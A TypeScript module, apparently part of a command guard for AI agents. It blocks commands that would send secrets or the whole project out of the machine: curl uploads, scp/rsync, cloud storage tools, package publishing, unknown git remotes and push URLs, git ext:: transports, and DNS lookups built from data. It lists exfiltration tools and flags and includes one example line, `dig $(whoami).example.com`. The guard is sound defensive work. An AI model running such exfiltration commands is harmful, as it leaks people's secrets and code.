/** Secrets, or the tree as a whole, on their way to somewhere else; and the settings that would send a push elsewhere. */
import { type Denial, deny } from "../action.ts";
import { type Argument, filled, headOf, known, tailOf, worstGap } from "../argument.ts";
import type { GuardContext } from "../context.ts";
import { type GitCall, type GitSetting, gitCallOf, writtenSettings } from "../git.ts";
import { addressesOf, gitSettingsHere, isKnownPush, namesRemote, noteGitFolders } from "../git-settings.ts";
import { findKey } from "../key-shapes.ts";
import { hasFlag, readOptions, valuesOfFlag } from "../options.ts";
import { readFrom } from "../output.ts";
import { resolvers, rowOf, senders } from "../programs.ts";
import type { Invocation, Scene } from "../scene.ts";
import { isTree, namesSecret } from "../secrets.ts";

const instead = "keep it on this machine, or ask the person";
const copiers = new Set(["scp", "rsync", "sftp"]);
const stores = new Set(["aws", "gsutil", "gcloud", "az", "rclone", "s3cmd", "mc", "b2"]);
const publishing: Readonly<Record<string, RegExp>> = {
  npm: /^publish$/,
  pnpm: /^publish$/,
  yarn: /^(npm )?publish$/,
  bun: /^publish$/,
  cargo: /^publish$/,
  twine: /^upload$/,
  poetry: /^publish$/,
  uv: /^publish$/,
  hatch: /^publish$/,
  gem: /^push$/,
  vsce: /^publish$/,
};

/** Denies sending secrets or the whole tree, publishing, and remotes that are not known. */
export function judgeDataOut(invocation: Invocation, scene: Scene): Denial | null {
  const { name, args } = invocation;
  const git = gitCallOf(invocation);
  if (git !== null) return judgeGit(git, invocation, scene);
  if (publishes(name, args)) return deny("data-out/publish", `${name} publishes the tree`, "leave publishing to the person");
  if (resolvers.has(name)) return judgeLookup(name, args);
  if (!senders.has(name) || (name === "openssl" && args[0]?.text !== "s_client")) return null;
  return sendsSecret(invocation, scene) || sendsTree(name, args, scene)
    ? deny("data-out/send", `${name} would send secrets or the whole tree`, instead)
    : null;
}

function sendsSecret({ name, args, input, inputFile }: Invocation, scene: Scene): boolean {
  if (input?.isSecret === true || args.some(({ isSecret }) => isSecret)) return true;
  if (args.some((argument) => argument.channels.length > 0 && readFrom(argument, scene).isSecret)) return true;
  if (inputFile !== null && (namesSecret(inputFile, scene) || readFrom(inputFile, scene).isSecret)) return true;
  return sentFiles(name, args).some((argument) => namesSecret(argument, scene));
}

/** Files that are sent, and not keys that the connection itself is made with (`ssh -i KEY`) or files that are brought. */
function sentFiles(name: string, args: readonly Argument[]): readonly Argument[] {
  if (name === "ssh" || name === "openssl") return [];
  if (name === "curl") {
    const options = readOptions(args, {
      short: "dFTHXobcuAeEmKx",
      long: [
        "--data",
        "--data-urlencode",
        "--data-ascii",
        "--url-query",
        "--data-binary",
        "--data-raw",
        "--form",
        "--upload-file",
        "--json",
        "--header",
        "--cert",
        "--key",
        "--cacert",
        "--output",
      ],
    });
    return valuesOfFlag(
      options,
      "-d",
      "-F",
      "-T",
      "--data",
      "--data-binary",
      "--data-urlencode",
      "--form",
      "--upload-file",
      "--json",
    ).filter(isFileValue);
  }
  if (copiers.has(name)) return readOptions(args, { short: "iFoPcJlSe", long: ["--rsh"] }).operands.slice(0, -1);
  return args.filter(
    (argument, at) =>
      !/^[a-z]+:\/\//i.test(headOf(argument)) && !/^(-i|--key|--cert|--key-file|--identity)$/.test(args[at - 1]?.text ?? ""),
  );
}

/** A secret's name in the text of a message is no file: only `@file`, `x=@file` and the value of -T are. */
function isFileValue({ text }: Argument): boolean {
  return text === null || !/\s/.test(text);
}

function sendsTree(name: string, args: readonly Argument[], scene: Scene): boolean {
  if (copiers.has(name)) {
    const { operands } = readOptions(args, { short: "iFoPcJlSe", long: ["--rsh"] });
    const target = filled(operands.at(-1) ?? known(""), "?");
    return target.includes(":") && operands.slice(0, -1).some((source) => isTree(source, scene));
  }
  return stores.has(name) && args.some((argument) => isTree(argument, scene));
}

/** `dig $(whoami).example.com`: a name put together from data and a domain. */
function judgeLookup(name: string, args: readonly Argument[]): Denial | null {
  const carries = args.some(
    (argument) => argument.isSecret || (worstGap(argument) !== null && (tailOf(argument).includes(".") || headOf(argument).includes("."))),
  );
  return carries ? deny("data-out/name-lookup", `${name} of a name that is made from data`, instead) : null;
}

function publishes(name: string, args: readonly Argument[]): boolean {
  const options = readOptions(args, {});
  const words = options.operands.map(({ text }) => text ?? "");
  const rule = rowOf(publishing, name);
  return (
    rule !== undefined && (rule.test(words[0] ?? "") || rule.test(words.slice(0, 2).join(" "))) && !hasFlag(options, "--dry-run", "-n")
  );
}

function judgeGit(git: GitCall, invocation: Invocation, scene: Scene): Denial | null {
  const { command, args } = git;
  noteGitFolders(git, scene);
  const settings = [...git.settings, ...writtenSettings(git)];
  if (settings.some(({ key }) => /^(remote\..{1,200}\.(url|pushurl)|url\..{1,400}\.(push)?insteadof|remote\.pushdefault)$/.test(key)))
    return denyRemote();
  if (settings.some((setting) => isUnknownBranchRemote(setting, scene))) return denyRemote();
  if (command === "remote") return judgeRemote(args, scene);
  if (command === "push" || command === "send-pack") return judgePush(args, invocation, scene);
  if (command === "send-email" || command === "imap-send") return deny("data-out/mail", `git ${command} sends mail`, instead);
  const runsProgram =
    ["fetch", "clone", "pull", "ls-remote", "submodule"].includes(command ?? "") && args.some(({ text }) => /^(ext|fd)::/.test(text ?? ""));
  return runsProgram ? denyRemote() : null;
}

/** A push without a target might go there. */
function takesPlace(name: string, { startRoutes }: GuardContext): boolean {
  return name === "origin" || startRoutes === null || startRoutes.length === 0 || namesRemote(name, startRoutes);
}

function judgeRemote(args: readonly Argument[], { context, remotes }: Scene): Denial | null {
  const { operands } = readOptions(args, { short: "tm" });
  const [verb, name, ...urls] = operands;
  if (verb?.text === undefined || !/^(add|set-url|rename)$/.test(verb.text ?? "add")) return null;
  // One to fetch from is no harm; a push to it is judged where it is made.
  const isNew = verb.text === "add" && name?.text !== undefined && name.text !== null && !takesPlace(name.text, context);
  if (isNew && !hasFlag(readOptions(args, {}), "--mirror")) {
    remotes.add(name.text ?? "");
    return null;
  }
  const isKnown = urls.length > 0 && urls.every(({ text }) => text !== null && addressesOf(context.startRoutes ?? []).has(text));
  return isKnown && name?.text !== null ? null : denyRemote();
}

/** A branch that is to go to a remote which is none of those the run began with. */
function isUnknownBranchRemote({ key, value }: GitSetting, { context }: Scene): boolean {
  if (!/^branch\..{1,200}\.(push)?remote$/.test(key)) return false;
  if (value.text === null) return true;
  if (value.text === "." || value.text === "") return false;
  return context.startRoutes === null ? isAddress(value.text) : !namesRemote(value.text, context.startRoutes);
}

function isAddress(text: string): boolean {
  return /[:/\\]|^\.+$/.test(text);
}

function judgePush(args: readonly Argument[], { environment }: Invocation, scene: Scene): Denial | null {
  const options = readOptions(args, { short: "o", long: ["--repo", "--push-option"] });
  const [target] = [...valuesOfFlag(options, "--repo"), ...options.operands];
  if (target?.text === null) return denyRemote();
  const { startRoutes } = scene.context;
  const to = target?.text ?? null;
  if (scene.remotes.size > 0 && (to === null || scene.remotes.has(to))) return denyRemote();
  if (startRoutes === null) return to !== null && isAddress(to) ? denyRemote() : null;
  // A folder that is not known is taken for one of the run's own tree.
  const folders = new Set([...scene.folders].map((folder) => folder ?? scene.context.top));
  const here = gitSettingsHere({ folders: [] }, environment, { ...scene, folders });
  return here.every((settings) => settings !== null && isKnownPush(to, settings, startRoutes)) ? null : denyRemote();
}

function denyRemote(): Denial {
  return deny("data-out/remote", "a remote that the run did not start with", "push to the remote that is set up, or ask the person");
}

/** What to say to an address or a tool's input that carries a key. */
export function judgeOutgoingText(text: string): Denial | null {
  const owner = findKey(text);
  return owner === null ? null : deny("data-out/key-in-text", `text that looks like ${owner} would leave the machine`, instead);
}
